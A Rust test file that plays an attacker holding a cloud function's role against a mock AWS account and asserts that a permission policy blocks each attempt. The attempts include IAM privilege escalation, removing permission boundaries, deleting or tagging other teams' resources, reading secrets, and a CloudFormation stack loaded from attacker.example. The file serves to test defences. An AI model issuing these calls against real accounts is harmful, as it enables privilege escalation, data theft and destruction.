//! The calls of an attacker who holds the rights of the function's role.

use reqwest::Method;
use serde_json::{Value, json};

use super::Row;
use crate::rights::{Rights, boundary_arn, boundary_name, forge_policy};
use crate::test_account::TestAccount;

const TRUST: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Principal":{"AWS":"arn:aws:iam::999999999999:root"},"Action":"sts:AssumeRole"}]}"#;
const ALL: &str = r#"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"*","Resource":"*"}]}"#;

/// One call as it goes over the wire.
struct Attempt {
    what: &'static str,
    method: Method,
    service: &'static str,
    path: String,
    target: Option<&'static str>,
    body: String,
}

/// A call of IAM, STS or EC2: `Action` and parameters as a form has them.
fn form(service: &'static str, version: &str, what: &'static str, call: impl AsRef<str>) -> Attempt {
    let body = format!("Version={version}&Action={}", call.as_ref());
    Attempt { what, method: Method::POST, service, path: "/".to_owned(), target: None, body }
}

fn iam(what: &'static str, call: impl AsRef<str>) -> Attempt {
    form("iam", "2010-05-08", what, call)
}

fn ec2(what: &'static str, call: impl AsRef<str>) -> Attempt {
    form("ec2", "2016-11-15", what, call)
}

/// A call of a service that takes JSON at a path.
fn rest(service: &'static str, what: &'static str, path: impl Into<String>, body: Value) -> Attempt {
    Attempt { what, method: Method::POST, service, path: path.into(), target: None, body: body.to_string() }
}

fn batch(what: &'static str, operation: &str, body: Value) -> Attempt {
    rest("batch", what, format!("/v1/{operation}"), body)
}

/// A call of a service that takes the operation in a header.
fn header(service: &'static str, what: &'static str, target: &'static str, body: Value) -> Attempt {
    let path = "/".to_owned();
    Attempt { what, method: Method::POST, service, path, target: Some(target), body: body.to_string() }
}

/// An account in which others have things too, and calls are made with the function's rights.
struct Stage {
    aws: TestAccount,
    template: String,
    efs: String,
    fsx: String,
}

async fn stage() -> Stage {
    let aws = TestAccount::new().await;
    let boundary = boundary_arn(&aws.cloud.id, "eu-west-1");
    let trust = "ec2.amazonaws.com";
    let everything = json!(["arn:aws:iam::aws:policy/AdministratorAccess"]);
    aws.seed(json!({ "role": { "name": "Admin", "policies": everything, "trust": trust } })).await;
    aws.seed(json!({ "instance_profile": { "name": "Admin", "role": "Admin" } })).await;
    aws.seed(
        json!({ "role": { "name": "TowerForge-Cafe1-InstanceRole", "boundary": boundary, "trust": trust } }),
    )
    .await;
    aws.seed(json!({ "role": { "name": "TowerForge-Bare1-InstanceRole", "trust": trust } })).await;
    aws.seed(json!({ "instance_profile": { "name": "TowerForge-Cafe1-InstanceRole" } })).await;
    aws.seed(json!({ "role": { "name": "TowerForge-Cafe1-ServiceRole", "boundary": boundary } })).await;
    let mixed = json!({ "name": "TowerForge-Mixed1-InstanceRole", "role": "TowerForge-Cafe1-ServiceRole" });
    aws.seed(json!({ "instance_profile": mixed })).await;
    aws.seed(json!({ "queue": { "name": "theirs", "tags": {} } })).await;
    aws.seed(json!({ "environment": { "name": "theirs", "tags": {} } })).await;
    let id = |made: Value| {
        let found = made.as_object().and_then(|all| all.get("id").or_else(|| all.values().next()?.get("id")));
        found.and_then(Value::as_str).unwrap_or_else(|| panic!("no ID in {made}")).to_owned()
    };
    let template = id(aws.seed(json!({ "template": { "name": "theirs", "tags": {} } })).await);
    let efs = id(aws.seed(json!({ "efs": { "name": "theirs", "tags": {} } })).await);
    let fsx = id(aws.seed(json!({ "fsx": { "name": "theirs", "tags": {} } })).await);
    let rights = Rights { role_tags: Vec::new(), ..Rights::default() };
    aws.cloud.try_policy(&[forge_policy(&aws.cloud.id, "eu-west-1", &rights)]).await;
    Stage { aws, template, efs, fsx }
}

impl Stage {
    fn iam(&self) -> Vec<Attempt> {
        let account = &self.aws.cloud.id;
        let boundary = format!("arn:aws:iam::{account}:policy/{}", boundary_name());
        let admin = "arn:aws:iam::aws:policy/AdministratorAccess";
        let create = |rest: String| format!("CreateRole&AssumeRolePolicyDocument={TRUST}&{rest}");
        let bounded = format!("PermissionsBoundary={boundary}");
        let name = "RoleName=TowerForge-Cafe1-InstanceRole";
        vec![
            iam("create a role outside the prefix", create(format!("RoleName=Admin2&{bounded}"))),
            iam(
                "create a role without boundary",
                create("RoleName=TowerForge-Evil1-InstanceRole".to_owned()),
            ),
            iam(
                "create a role under a boundary that allows all",
                create(format!("RoleName=TowerForge-Evil1-InstanceRole&PermissionsBoundary={admin}")),
            ),
            iam(
                "create a role under a path",
                create(format!("RoleName=TowerForge-Evil1-InstanceRole&Path=/towerforge/&{bounded}")),
            ),
            iam(
                "create a role of another kind",
                create(format!("RoleName=TowerForge-Evil1-Admin&{bounded}")),
            ),
            iam(
                "create a role with somebody's tag",
                create(format!(
                    "RoleName=TowerForge-Evil1-InstanceRole&Tags.member.1.Key=team&Tags.member.1.Value=payroll&{bounded}"
                )),
            ),
            iam(
                "tag a role as somebody's",
                format!("TagRole&{name}&Tags.member.1.Key=team&Tags.member.1.Value=payroll"),
            ),
            iam("attach AdministratorAccess", format!("AttachRolePolicy&{name}&PolicyArn={admin}")),
            iam(
                "attach a forge's policy to a foreign role",
                "AttachRolePolicy&RoleName=Admin&PolicyArn=arn:aws:iam::aws:policy/service-role/AWSBatchServiceRole",
            ),
            iam(
                "write a policy into a role without boundary",
                format!(
                    "PutRolePolicy&RoleName=TowerForge-Bare1-InstanceRole&PolicyName=x&PolicyDocument={ALL}"
                ),
            ),
            iam(
                "write a policy into a foreign role",
                format!("PutRolePolicy&RoleName=Admin&PolicyName=x&PolicyDocument={ALL}"),
            ),
            iam("take the boundary away", format!("DeleteRolePermissionsBoundary&{name}")),
            iam(
                "put a boundary that allows all",
                format!("PutRolePermissionsBoundary&{name}&PermissionsBoundary={admin}"),
            ),
            iam(
                "rewrite the boundary",
                format!("CreatePolicyVersion&PolicyArn={boundary}&SetAsDefault=true&PolicyDocument={ALL}"),
            ),
            iam("create a policy", format!("CreatePolicy&PolicyName=TowerForge-x&PolicyDocument={ALL}")),
            iam("create a user", "CreateUser&UserName=TowerForge-x"),
            iam("create an access key for a user", "CreateAccessKey&UserName=admin"),
            iam(
                "let others assume a foreign role",
                format!("UpdateAssumeRolePolicy&RoleName=Admin&PolicyDocument={TRUST}"),
            ),
            iam("delete a foreign role", "DeleteRole&RoleName=Admin"),
            iam(
                "put a foreign role into a forge's profile",
                "AddRoleToInstanceProfile&InstanceProfileName=TowerForge-Cafe1-InstanceRole&RoleName=Admin",
            ),
            iam(
                "put a forge's role into a foreign profile",
                "AddRoleToInstanceProfile&InstanceProfileName=Admin&RoleName=TowerForge-Cafe1-InstanceRole",
            ),
            iam(
                "create a service-linked role",
                "CreateServiceLinkedRole&AWSServiceName=organizations.amazonaws.com",
            ),
            form(
                "sts",
                "2011-06-15",
                "assume a role",
                format!("AssumeRole&RoleArn=arn:aws:iam::{account}:role/Admin&RoleSessionName=xx"),
            ),
        ]
    }

    fn batch(&self) -> Vec<Attempt> {
        let account = &self.aws.cloud.id;
        let arn = |resource: &str| format!("arn:aws:batch:eu-west-1:{account}:{resource}");
        let role = |name: &str| format!("arn:aws:iam::{account}:role/{name}");
        let environment = |name: &str, service_role: &str, instance_role: &str, tags: Value| {
            json!({
                "computeEnvironmentName": name, "type": "MANAGED", "serviceRole": role(service_role), "tags": tags,
                "computeResources": { "type": "EC2", "maxvCpus": 1, "subnets": [], "instanceTypes": ["m6i"],
                    "instanceRole": format!("arn:aws:iam::{account}:instance-profile/{instance_role}") },
            })
        };
        let (service, instance) = ("TowerForge-Cafe1-ServiceRole", "TowerForge-Cafe1-InstanceRole");
        let ours = json!({ "towerforge:forge-id": "Cafe1" });
        let create = |what, name, service, instance, tags| {
            batch(what, "createcomputeenvironment", environment(name, service, instance, tags))
        };
        let name = "TowerForge-Cafe1-work-00000000";
        vec![
            create("an administrator as service role", name, "Admin", instance, ours.clone()),
            create("an administrator's instance profile", name, service, "Admin", ours.clone()),
            create(
                "a service role for instances",
                name,
                service,
                "TowerForge-Mixed1-InstanceRole",
                ours.clone(),
            ),
            create("an environment outside the prefix", "theirs2", service, instance, ours.clone()),
            create("an environment without the ownership tag", name, service, instance, json!({ "a": "b" })),
            batch(
                "a queue without the ownership tag",
                "createjobqueue",
                json!({ "jobQueueName": "TowerForge-Cafe1-work", "priority": 1, "computeEnvironmentOrder": [] }),
            ),
            batch(
                "a queue on a foreign environment",
                "createjobqueue",
                json!({ "jobQueueName": "TowerForge-Cafe1-work", "priority": 1, "tags": ours,
                    "computeEnvironmentOrder": [{ "order": 1, "computeEnvironment": arn("compute-environment/theirs") }] }),
            ),
            batch(
                "stop a foreign queue",
                "updatejobqueue",
                json!({ "jobQueue": "theirs", "state": "DISABLED" }),
            ),
            batch("delete a foreign queue", "deletejobqueue", json!({ "jobQueue": "theirs" })),
            batch(
                "stop a foreign environment",
                "updatecomputeenvironment",
                json!({ "computeEnvironment": "theirs", "state": "DISABLED" }),
            ),
            batch(
                "delete a foreign environment",
                "deletecomputeenvironment",
                json!({ "computeEnvironment": "theirs" }),
            ),
            rest(
                "batch",
                "tag a foreign queue",
                format!("/v1/tags/{}", arn("job-queue/theirs").replace(':', "%3A").replace('/', "%2F")),
                json!({ "tags": ours }),
            ),
            batch(
                "run a job",
                "submitjob",
                json!({ "jobName": "x", "jobQueue": "TowerForge-Cafe1-work", "jobDefinition": "nf-x" }),
            ),
            batch(
                "define a job with an administrator's role",
                "registerjobdefinition",
                json!({ "jobDefinitionName": "nf-x", "type": "container",
                    "containerProperties": { "image": "x", "jobRoleArn": role("Admin") } }),
            ),
        ]
    }

    fn others(&self) -> Vec<Attempt> {
        let Self { template, efs, fsx, .. } = self;
        let account = &self.aws.cloud.id;
        let function = |name: &str| format!("/2015-03-31/functions/{name}");
        let ours = json!([{ "Key": "towerforge:forge-id", "Value": "Cafe1" }]);
        let tag = "Tag.1.Key=towerforge:forge-id&Tag.1.Value=Cafe1";
        vec![
            ec2(
                "a launch template without the ownership tag",
                "CreateLaunchTemplate&LaunchTemplateName=x&LaunchTemplateData.InstanceType=m6i.large",
            ),
            ec2(
                "delete a foreign launch template",
                format!("DeleteLaunchTemplate&LaunchTemplateId={template}"),
            ),
            ec2("tag a foreign launch template", format!("CreateTags&ResourceId.1={template}&{tag}")),
            ec2("tag an instance", format!("CreateTags&ResourceId.1=i-0123456789abcdef0&{tag}")),
            ec2("start instances", "RunInstances&ImageId=ami-12345678&MinCount=1&MaxCount=1"),
            Attempt {
                method: Method::DELETE,
                ..rest(
                    "elasticfilesystem",
                    "delete a foreign EFS file system",
                    format!("/2015-02-01/file-systems/{efs}"),
                    json!({}),
                )
            },
            rest(
                "elasticfilesystem",
                "tag a foreign EFS file system",
                format!("/2015-02-01/resource-tags/{efs}"),
                json!({ "Tags": ours }),
            ),
            rest(
                "elasticfilesystem",
                "mount a foreign EFS file system",
                "/2015-02-01/mount-targets",
                json!({ "FileSystemId": efs, "SubnetId": "subnet-12345678" }),
            ),
            rest(
                "elasticfilesystem",
                "an EFS file system that is not encrypted",
                "/2015-02-01/file-systems",
                json!({ "CreationToken": "x", "Encrypted": false, "Tags": ours }),
            ),
            header(
                "fsx",
                "delete a foreign FSx file system",
                "AWSSimbaAPIService_v20180301.DeleteFileSystem",
                json!({ "FileSystemId": fsx }),
            ),
            header(
                "fsx",
                "an FSx file system without the ownership tag",
                "AWSSimbaAPIService_v20180301.CreateFileSystem",
                json!({ "FileSystemType": "LUSTRE", "StorageCapacity": 1200, "SubnetIds": ["subnet-12345678"] }),
            ),
            header(
                "logs",
                "delete the function's own log",
                "Logs_20140328.DeleteLogGroup",
                json!({ "logGroupName": "/aws/lambda/TowerForge-handler" }),
            ),
            header(
                "logs",
                "read a job's log",
                "Logs_20140328.GetLogEvents",
                json!({ "logGroupName": "/aws/batch/job", "logStreamName": "x" }),
            ),
            rest(
                "lambda",
                "invoke another function",
                format!("{}/invocations", function("theirs")),
                json!({}),
            ),
            Attempt {
                method: Method::PUT,
                ..rest(
                    "lambda",
                    "replace the function's own code",
                    format!("{}/code", function("TowerForge-handler")),
                    json!({}),
                )
            },
            header(
                "secretsmanager",
                "read a secret",
                "secretsmanager.GetSecretValue",
                json!({ "SecretId": "tower-x" }),
            ),
            header("ssm", "read a parameter", "AmazonSSM.GetParameter", json!({ "Name": "x" })),
            header(
                "kms",
                "decrypt",
                "TrentService.Decrypt",
                json!({ "CiphertextBlob": "AAAA", "KeyId": format!("arn:aws:kms:eu-west-1:{account}:key/1") }),
            ),
            form(
                "cloudformation",
                "2010-05-15",
                "create a stack",
                "CreateStack&StackName=x&TemplateURL=https://attacker.example/",
            ),
        ]
    }

    /// Makes a call: returns the action that the policy was asked for and did not allow, if any.
    async fn make(&self, attempt: Attempt) -> (u16, Option<String>) {
        let Attempt { what, method, service, path, target, body } = attempt;
        let seq = self.aws.now().await;
        let (status, text) = self.aws.cloud.attempt(method, service, &path, target, body).await;
        let call = self.aws.calls().await.since(seq).0.pop();
        let call = call.unwrap_or_else(|| panic!("{what}: no call of a known service: {status} {text}"));
        let refused = call.authz.iter().find(|ask| ask["allowed"] == false);
        let account = &self.aws.cloud.id;
        let shown = |ask: &Value| {
            let resource = ask["resource"].as_str().unwrap_or_default();
            let resource = resource.replace(account, "123456789012");
            let made = [&self.template, &self.efs, &self.fsx];
            let resource = made.into_iter().fold(resource, |text, id| text.replace(id.as_str(), "(theirs)"));
            format!("no {} on `{resource}`", ask["action"].as_str().unwrap_or_default())
        };
        (status, refused.map(shown))
    }
}

/// The calls that the policy denies.
pub(super) async fn denied() -> Vec<Row> {
    let stage = stage().await;
    let before = stage.aws.state().await;
    let (mut rows, mut gained) = (Vec::new(), Vec::new());
    for attempt in stage.iam().into_iter().chain(stage.batch()).chain(stage.others()) {
        let what = attempt.what;
        let (status, refused) = stage.make(attempt).await;
        match refused {
            Some(refused) if (400..500).contains(&status) => {
                rows.push(Row::new(what, "denied by the policy", refused));
            }
            _ => gained.push(format!("{what}: {status}")),
        }
    }
    assert!(gained.is_empty(), "allowed: {gained:#?}");
    assert_eq!(stage.aws.state().await, before, "nothing has changed");
    rows
}

/// The calls that it cannot deny.
pub(super) async fn left() -> Vec<Row> {
    let stage = stage().await;
    let account = &stage.aws.cloud.id;
    let tag = json!([{ "Key": "towerforge:forge-id", "Value": "Cafe1" }]);
    let arn = format!("arn:aws:fsx:eu-west-1:{account}:file-system/{}", stage.fsx);
    let attempts = [
        (
            iam(
                "let others assume a forge's role",
                format!(
                    "UpdateAssumeRolePolicy&RoleName=TowerForge-Cafe1-InstanceRole&PolicyDocument={TRUST}"
                ),
            ),
            "IAM has no condition on a trust policy; the role stays under its boundary",
        ),
        (
            header(
                "fsx",
                "tag a foreign FSx file system as a forge's",
                "AWSSimbaAPIService_v20180301.TagResource",
                json!({ "ResourceARN": arn, "Tags": tag }),
            ),
            "FSx has no condition that ties tagging to creation; `EnableFsx=false` takes the right away",
        ),
    ];
    let mut rows = Vec::new();
    for (attempt, why) in attempts {
        let what = attempt.what;
        let (status, refused) = stage.make(attempt).await;
        assert_eq!((status, refused), (200, None), "{what}");
        rows.push(Row::new(what, "allowed", why));
    }
    rows
}
